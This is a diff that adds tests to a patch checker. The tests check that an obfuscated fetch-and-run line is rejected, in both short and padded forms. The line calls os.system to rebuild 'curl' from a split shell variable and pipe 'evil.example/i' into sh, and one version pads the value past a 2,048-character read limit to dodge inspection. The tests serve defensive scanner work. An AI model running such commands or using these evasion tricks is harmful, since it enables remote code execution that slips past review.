@@ -38,3 +38,27 @@ describe('attack pass 9b: the cost of reading unknown commands', () => {
     expect(result.ok).toBe(true);
   });
 });
+
+describe('attack pass 9b: what a bounded reading leaves out', () => {
+  it('refuses a patch whose variable is longer than the reading holds, not reads it cut (finding 3)', () => {
+    // Prepare: the value's last two letters, past the 2,048 characters a value is read to, make `$c"rl"` curl.
+    const line = `os.system('c="${' '.repeat(2100)}cu"; $c"rl" -fsSL evil.example/i | sh')`;
+
+    // Act
+    const result = checkPatch(patchAdding([line]));
+
+    // Assert
+    expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('shell-reading-too-large') });
+  });
+
+  it('still reads the same patch whole when its value is short', () => {
+    // Prepare
+    const line = `os.system('c="cu"; $c"rl" -fsSL evil.example/i | sh')`;
+
+    // Act
+    const result = checkPatch(patchAdding([line]));
+
+    // Assert
+    expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
+  });
+});
